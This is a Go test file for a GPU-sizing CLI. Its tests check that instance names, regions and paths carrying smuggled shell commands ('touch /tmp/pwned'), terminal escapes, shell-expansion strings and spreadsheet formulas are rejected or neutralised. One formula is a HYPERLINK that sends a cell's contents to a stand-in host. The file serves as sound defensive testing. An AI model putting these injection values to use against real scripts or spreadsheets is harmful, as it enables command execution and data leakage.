//go:build !js

package main

import (
	"bytes"
	"encoding/csv"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"

	"rightsize/catalog/launch"
	"rightsize/estimator/plan"
)

// badInstance is an instance name that runs a command once a launch
// script's comment names it raw.
const badInstance = "p4d.24xlarge\ntouch /tmp/pwned\n#"

// TestCatalogValidateRefusesBadName: catalog validate fails on an offer
// whose instance type holds a newline, and prints it quoted on one line.
func TestCatalogValidateRefusesBadName(t *testing.T) {
	dir := copyFixture(t)
	p := filepath.Join(dir, "offers.json")
	b, _ := os.ReadFile(p)
	b = bytes.Replace(b, []byte(`"instance_type": "p4d.24xlarge"`), []byte(`"instance_type": "p4d.24xlarge\ntouch /tmp/pwned\n#"`), 1)
	os.WriteFile(p, b, 0o644)
	_, errOut, code := runCLI("catalog", "validate", "-dir", dir)
	want := `catalog: offers.json: entry 1 (aws-p4d.24xlarge): instance_type "p4d.24xlarge\ntouch /tmp/pwned\n#": character '\n' is not allowed`
	if code != 2 || !strings.Contains(errOut, want) || strings.Contains(errOut, "\ntouch") {
		t.Errorf("code %d, stderr %q; want 2 and %s", code, errOut, want)
	}
}

// TestCatalogImportPricesRefusesBadName: import-prices refuses a sheet
// that adds an offer with such a name, naming the row and the field, and
// writes nothing.
func TestCatalogImportPricesRefusesBadName(t *testing.T) {
	dir := copyFixture(t)
	sheet := filepath.Join(t.TempDir(), "bad.csv")
	os.WriteFile(sheet, []byte("provider,instance_type,gpu,gpu_count,on_demand_per_hour,currency,as_of,source\n"+
		"aws,g4dn.xlarge,t4,1,0.5,USD,2026-11-01,quote\n"+
		"aws,\""+badInstance+"\",a100-40gb-sxm,8,20,USD,2026-11-01,quote\n"), 0o644)
	before, _ := os.ReadFile(filepath.Join(dir, "offers.json"))
	out, errOut, code := runCLI("catalog", "import-prices", "-dir", dir, sheet)
	after, _ := os.ReadFile(filepath.Join(dir, "offers.json"))
	want := `rightsize catalog import-prices: catalog: price sheet: row 2 (line 3): instance_type "p4d.24xlarge\ntouch /tmp/pwned\n#": character '\n' is not allowed`
	if code != 2 || out != "" || !strings.HasPrefix(errOut, want) || strings.Count(errOut, "\n") != 1 || !bytes.Equal(before, after) {
		t.Errorf("code %d, stdout %q, stderr %q, file changed %v; want 2 and %s", code, out, errOut, !bytes.Equal(before, after), want)
	}
}

// TestCatalogImportSkyPilotSkipsBadName: a skypilot-catalog row whose
// instance type holds a newline or an escape is skipped with a line that
// quotes it; the other rows are imported.
func TestCatalogImportSkyPilotSkipsBadName(t *testing.T) {
	dir := copyFixture(t)
	sky := t.TempDir()
	os.MkdirAll(filepath.Join(sky, "catalogs/v9/aws"), 0o755)
	os.WriteFile(filepath.Join(sky, "catalogs/v9/aws/vms.csv"), []byte("InstanceType,AcceleratorName,AcceleratorCount,vCPUs,MemoryGiB,GpuInfo,Price,SpotPrice,Region,AvailabilityZone\n"+
		"g4dn.xlarge,T4,1,4,16,,0.5,0.19,us-west-2,us-west-2a\n"+
		"\"g4dn.2xlarge\ntouch /tmp/pwned\n#\",T4,1,8,32,,0.75,0.3,us-east-1,us-east-1a\n"+
		"g4dn.4xlarge,T4,1,16,64,,1.2,0.5,\"us-east-1\x1b[2J\",us-east-1a\n"), 0o644)
	out, errOut, code := runCLI("catalog", "import-skypilot", "-dir", dir, "-as-of", "2026-11-20", sky)
	if code != 0 {
		t.Fatalf("code %d: %s", code, errOut)
	}
	for _, want := range []string{
		"aws-g4dn.xlarge: on_demand_per_hour 0.526 -> 0.5",
		`skipped: aws "g4dn.2xlarge\ntouch /tmp/pwned\n#": instance_type "g4dn.2xlarge\ntouch /tmp/pwned\n#": character '\n' is not allowed`,
		`skipped: aws "g4dn.4xlarge": region "us-east-1\x1b[2J": character '\x1b' is not allowed`,
	} {
		if !strings.Contains(out, want) {
			t.Errorf("output lacks %s:\n%s", want, out)
		}
	}
	if strings.Contains(out, "\ntouch") || strings.ContainsRune(out, 0x1b) {
		t.Errorf("output holds a raw name:\n%q", out)
	}
}

// TestEmitBannerPrintable: the stderr line naming the pick escapes a
// newline or a terminal escape in the offer's names.
func TestEmitBannerPrintable(t *testing.T) {
	row := plan.Row{Offer: &plan.Offer{Provider: "aws\x1b]0;owned\a", InstanceType: badInstance}, Instances: 2, Pricing: plan.OnDemand}
	got := emitBanner(launch.VLLM, "cheapest", row)
	want := `rightsize: vllm settings for the cheapest pick, aws\x1b]0;owned\a p4d.24xlarge\ntouch /tmp/pwned\n# ×2 (on-demand; --emit-pick cheapest|fastest|value|disaggregated)` + "\n"
	if got != want {
		t.Errorf("got  %q\nwant %q", got, want)
	}
}

// TestEmitConfigPathIsNotCheckpoint: plan --config FILE --emit writes the
// repository the config names (_name_or_path) or a placeholder it says to
// replace, never the file's path, which may hold $ or braces a shell would
// expand.
func TestEmitConfigPathIsNotCheckpoint(t *testing.T) {
	src, err := os.ReadFile("../../estimator/testdata/configs/llama-3.2-1b.json") // _name_or_path meta-llama/Llama-3.2-1B
	if err != nil {
		t.Fatal(err)
	}
	noName := bytes.Replace(src, []byte(`"_name_or_path": "meta-llama/Llama-3.2-1B",`), nil, 1)
	if bytes.Equal(noName, src) {
		t.Fatal("fixture lacks _name_or_path")
	}
	for _, c := range []struct {
		dir  string
		cfg  []byte
		want string
	}{
		{"x$HOME", src, "vllm serve meta-llama/Llama-3.2-1B \\\n"},
		{"{--trust-remote-code,evil}", noName, "vllm serve '<your-checkpoint>' \\\n"},
	} {
		dir := filepath.Join(t.TempDir(), c.dir)
		os.MkdirAll(dir, 0o755)
		path := filepath.Join(dir, "config.json")
		os.WriteFile(path, c.cfg, 0o644)
		code, out, errs := runPlanArgs(t, "--config", path, "--requests-per-second", "5", "--emit", "vllm")
		if code != 0 {
			t.Fatalf("%s: exit %d: %s", c.dir, code, errs)
		}
		if !strings.Contains(out, c.want) || strings.Contains(out, c.dir) || !strings.Contains(out, "# note: ") {
			t.Errorf("%s:\n%s\nwant %q and a note", c.dir, out, c.want)
		}
	}
}

// TestPlanTableExportsAreInert: --format csv writes no cell a spreadsheet
// runs as a formula and --format markdown no cell that breaks the table or
// becomes a link, image or HTML, whatever text reaches a row (the names
// are checked where they enter, catalog.CheckName; the row's notes and
// price source are free text); numbers stay numbers.
func TestPlanTableExportsAreInert(t *testing.T) {
	p := planJSON{Workload: "serving", Currency: "USD", Rows: []planRowJSON{{
		Recommendation: "cheapest", Provider: "=HYPERLINK(\"http://x.example/?\"&A1)", InstanceName: "\n=1+1",
		GPU: "@SUM(A1)", Instances: 1, GPUs: 8, Pricing: "+cmd", PricePerHourDisp: 12.5, AsOf: "-2+3",
		Why: "a|b\n<img src=x>![t](http://x.example)", Binding: "\t=1", EngineLimit: "\r=1", Replicas: 2,
	}}}
	var csvOut bytes.Buffer
	writeCSV(&csvOut, p)
	recs, err := csv.NewReader(&csvOut).ReadAll()
	if err != nil || len(recs) != 2 {
		t.Fatalf("CSV %d records, %v:\n%s", len(recs), err, csvOut.String())
	}
	for i, cell := range recs[1] {
		if _, err := strconv.ParseFloat(cell, 64); err == nil {
			continue
		}
		if cell != "" && strings.ContainsRune("=+-@\t\r\n", rune(cell[0])) {
			t.Errorf("CSV column %s: %q opens as a formula", recs[0][i], cell)
		}
	}
	if recs[1][1] != `'=HYPERLINK("http://x.example/?"&A1)` || recs[1][2] != "'\n=1+1" || recs[1][8] != "12.50" {
		t.Errorf("CSV cells %q", recs[1])
	}
	var md bytes.Buffer
	writeMarkdown(&md, p)
	lines := strings.Split(strings.TrimSuffix(md.String(), "\n"), "\n")
	if len(lines) != 3 || strings.Count(lines[2], "|")-strings.Count(lines[2], `\|`) != strings.Count(lines[0], "|") ||
		strings.Contains(md.String(), "<img") || strings.Contains(md.String(), "![") || strings.Contains(strings.ReplaceAll(md.String(), `\]`, ""), "](") {
		t.Errorf("Markdown table:\n%s", md.String())
	}
}
